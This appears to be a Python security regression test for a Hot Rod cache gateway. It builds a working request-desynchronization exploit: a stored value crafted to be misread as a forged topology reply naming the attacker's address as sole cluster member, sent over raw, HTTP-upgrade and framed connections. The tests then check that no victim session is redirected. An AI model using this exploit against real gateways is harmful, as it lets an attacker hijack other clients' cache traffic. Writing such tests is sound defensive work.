"""Forged topologies: a client makes a value of its own stand where the gateway expects a reply.

Two requests have the same message id and replies of different forms. The gateway reads the first reply by the form of the
second, and so takes octets of the value that was there before for the reply to a further request. That names the attacker's
address as the only member of the cluster.
"""

import contextlib
import socket
import struct
import unittest

import frames
import hot_rod
from attacks import stage
from frames import Session
from link import Link

# Beyond what any cluster has: a topology of it is recognised.
FORGED_TOPOLOGY_ID = 0x0BAD
# Longer than what the gateway waits for before it passes a value on.
ENDLESS = 4096


def forged_reply(message_id, host, port):
    """To PUT, with a view of the cluster that has one member, which owns the one segment."""
    reply = bytes([hot_rod.RESPONSE]) + hot_rod.vint(message_id) + bytes([hot_rod.PUT + 1, hot_rod.SUCCESS])
    members = hot_rod.vint(1) + hot_rod.counted(host) + struct.pack(">H", port)
    function, segments, owners = b"\x03", hot_rod.vint(1), b"\x01" + hot_rod.vint(0)
    return reply + b"\x01" + hot_rod.vint(FORGED_TOPOLOGY_ID) + members + function + segments + owners


def stored_value(reply):
    """A value that is read as the previous one of 4.0, and a reply behind it.

    The server sends it at 3.1: its length and the value. At 4.0 metadata comes first: the length's first octet has the
    flags of lifespan and maximum idle time without end, its second and seven of the value are the version.
    """
    read_as_version, empty_value = b"\0" * 7, b"\0"
    value = read_as_version + empty_value + reply
    length = 3 + (len(value) // 128 + 1) * 128
    assert hot_rod.vint(length)[0] == 0x83
    return value.ljust(length, b"\0")


def duplicates(victim_cache, own_cache=b"mallory"):
    """Three requests that are in flight at once. Of the last, whose reply is forged, the member never gets the end."""
    previous = hot_rod.FORCE_RETURN_VALUE
    endless = hot_rod.put(
        2, b"k", b"\0" * ENDLESS, victim_cache, version=31, intelligence=hot_rod.HASH_DISTRIBUTION_AWARE)
    return [
        hot_rod.put(1, b"trap", b"x", own_cache, version=31, flags=previous),
        hot_rod.put(1, b"trap", b"x", own_cache, version=40, flags=previous),
        endless[:-1],
    ]


def set_trap(client, listener):
    """The attacker logs in and stores the value."""
    client.log_in(*stage.MALLORY)
    value = stored_value(forged_reply(2, b"127.0.0.1", listener.port))
    assert client.call(hot_rod.put, b"trap", value, b"mallory").status == hot_rod.SUCCESS


def attack_raw(gateway, listener, victim_cache):
    with stage.Client(gateway.port) as client:
        set_trap(client, listener)
        client.send(b"".join(duplicates(victim_cache)))
        client.read_for(0.5)


def attack_tunnel(gateway, listener, victim_cache):
    with stage.Client(gateway.port) as client:
        client.send(b"GET / HTTP/1.1\r\nHost: h\r\nConnection: Upgrade\r\nUpgrade: hotrod\r\n\r\n")
        while b"\r\n\r\n" not in client.received and client.more():
            pass
        client.received = client.received.partition(b"\r\n\r\n")[2]
        set_trap(client, listener)
        client.send(b"".join(duplicates(victim_cache)))
        client.read_for(0.5)


def attack_frames(gateway, listener, victim_cache):
    with stage.Client(gateway.port) as client:
        set_trap(client, listener)
    with Link(gateway.port, settings={frames.SETTINGS_HOT_ROD: 1}) as link:
        session = Session(link)
        session.call(hot_rod.plain, *stage.MALLORY)
        link.sock.settimeout(0.5)
        with contextlib.suppress(EOFError, OSError):
            first, second, endless = duplicates(victim_cache)
            call = session.open_call()
            session.begin(first)
            session.begin(second)
            session.send(frames.REQUEST, frames.FIRST | frames.DEFAULT_URGENCY << 4, struct.pack(">I", call) + endless)
            while True:
                session.next(frames.RESPONSE, frames.CANCEL, frames.TOPOLOGY)


ATTACKS = {"raw": attack_raw, "tunnel": attack_tunnel, "frames": attack_frames}


class Victim:
    """Alice, in frames: she works, and keeps every TOPOLOGY that she is sent."""

    def __init__(self, gateway, test):
        self.link = Link(gateway.port, settings={frames.SETTINGS_HOT_ROD: 1})
        test.addCleanup(self.link.sock.close)
        self.session = Session(self.link)
        assert self.session.call(hot_rod.plain, *stage.ALICE).status == hot_rod.SUCCESS
        # With owners, as a client that follows the topology of its cache.
        self.work(intelligence=hot_rod.HASH_DISTRIBUTION_AWARE)

    def work(self, intelligence=hot_rod.BASIC):
        request = hot_rod.get(1, b"k", b"alice", intelligence=intelligence)
        answer = self.session.finish(self.session.begin(request))
        assert answer[2] == hot_rod.GET + 1, answer

    def topologies(self):
        """Those sent so far."""
        self.work()
        kind = frames.TOPOLOGY
        events = [event for event in self.link.events if getattr(getattr(event, "frame", None), "type", None) == kind]
        return [event.frame.body for event in events]


@stage.real
class Topologies(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.server = stage.server()

    def setUp(self):
        self.listener = stage.Listener(self)

    def assert_not_led_astray(self, gateway, how):
        """Neither what the gateway says of the cluster nor where it leads sessions is the attacker's."""
        address = self.listener.address
        self.assertNotIn(
            address, gateway.members(), f"{how}: an answer to the attacker's requests made its address a member")
        for _ in range(4):
            with stage.Client(gateway.port) as other:
                other.send(hot_rod.ping(1))
                other.read_for(0.2)
        self.assertEqual(self.listener.visitors(), 0, f"{how}: another client's session was led to the attacker")

    def test_another_session_in_frames_is_not_told(self):
        for carriage, attack in ATTACKS.items():
            with self.subTest(carriage=carriage):
                gateway = stage.sidecar(
                    self, "--upstream", self.server.address, "--topology-cache", "alice", "--user", "admin",
                    environment={"HOTROD_GATEWAY_PASSWORD": "changeme"})
                gateway.wait_for(lambda now: now["membership"]["known_by"] == "own connection")
                victim = Victim(gateway, self)
                attack(gateway, self.listener, b"alice")
                forged = b"127.0.0.1" + struct.pack(">H", self.listener.port)
                told = [topology for topology in victim.topologies() if forged in topology]
                self.assertEqual(
                    told, [], f"{carriage}: a session with the cache 'alice' was told that the attacker has it")

    def test_a_front_without_a_connection_of_its_own_is_not_led(self):
        for carriage, attack in ATTACKS.items():
            with self.subTest(carriage=carriage):
                gateway = stage.front(self, "--upstream", self.server.address, "--topology-cache", "")
                attack(gateway, self.listener, b"alice")
                self.assert_not_led_astray(gateway, carriage)
                if carriage != "frames":
                    # In frames a call with the id of another one is cancelled, and the session goes on or ends.
                    self.assertTrue(gateway.logged("is used twice"), f"{carriage}: the log does not say why the session ended")

    def test_a_front_whose_own_connection_was_cut_is_not_led(self):
        relay = stage.Relay(self, self.server.port)
        gateway = stage.front(
            self, "--upstream", relay.address, "--topology-cache", "alice", "--user", "admin", "--topology-interval", "1s",
            environment={"HOTROD_GATEWAY_PASSWORD": "changeme"})
        now = gateway.wait_for(lambda now: now["membership"]["members"] == [self.server.address])
        self.assertEqual(now["membership"]["members"], [self.server.address])
        with stage.Client(gateway.port) as client:
            # The session leads to the member itself; the gateway's own connection goes through the relay.
            set_trap(client, self.listener)
            relay.cut()
            gateway.wait_for(lambda now: now["membership"]["known_by"] != "own connection")
            client.send(b"".join(duplicates(b"alice")))
            client.read_for(0.5)
            relay.join()
        gateway.wait_for(lambda now: now["membership"]["known_by"] == "own connection")
        self.assert_not_led_astray(gateway, "after a cut")
